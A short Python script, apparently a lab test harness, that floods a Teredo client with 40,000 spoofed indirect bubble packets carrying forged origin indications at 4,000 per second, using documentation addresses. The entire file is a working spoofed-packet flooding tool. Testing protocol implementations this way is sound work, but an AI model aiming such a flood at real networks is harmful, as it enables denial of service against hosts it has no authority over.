# Indirect bubbles "from the client's server" (raw socket, run in the server's namespace) to a client, each with
# an origin indication naming a random mapping in 198.51.100.100-250, at 4,000/s: python3 floodA.py TEREDO PORT [COUNT]
import os, sys; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__))); from craft import *
import ipaddress
target, cport = ipaddress.IPv6Address(sys.argv[1]).packed, int(sys.argv[2])
count = int(sys.argv[3]) if len(sys.argv) > 3 else 40000
s = rawsock(); n = 0; t0 = time.time()
for i in range(count):
    ip = '198.51.100.%d' % random.randint(100, 250); port = random.randint(1024, 65535)
    pkt = udp4('198.51.100.1', 3544, '198.51.100.10', cport,
               origin(ip, port) + bubble(teredo_addr('198.51.100.1', ip, port), target))
    s.sendto(pkt, ('198.51.100.10', 0)); n += 1
    if n % 2000 == 0:
        d = t0 + n / 4000 - time.time()
        if d > 0: time.sleep(d)
print('sent', n, 'in', time.time() - t0)
